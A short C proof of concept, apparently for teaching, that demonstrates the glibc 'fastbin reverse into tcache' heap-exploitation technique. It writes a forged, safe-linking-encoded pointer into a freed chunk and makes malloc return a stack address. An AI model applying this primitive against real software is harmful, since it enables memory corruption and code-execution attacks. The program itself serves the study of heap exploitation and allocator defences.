/* Refilling the tcache from a fastbin turns the order round and stores links through a forged one. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <assert.h>
const size_t allocsize = 0x40;
int main(void) {
    setbuf(stdout, NULL);
    char *ptrs[14];
    size_t i;
    for (i = 0; i < 14; i++) ptrs[i] = malloc(allocsize);
    for (i = 0; i < 7; i++) free(ptrs[i]);
    char *victim = ptrs[7];
    free(victim);
    for (i = 8; i < 14; i++) free(ptrs[i]);
    size_t stack_var[6];
    memset(stack_var, 0xcd, sizeof(stack_var));
    *(size_t **)victim = (size_t *)((long)&stack_var[0] ^ ((long)victim >> 12));
    for (i = 0; i < 7; i++) ptrs[i] = malloc(allocsize);
    malloc(allocsize);
    char *q = malloc(allocsize);
    assert(q == (char *)&stack_var[2]);
    return 0;
}
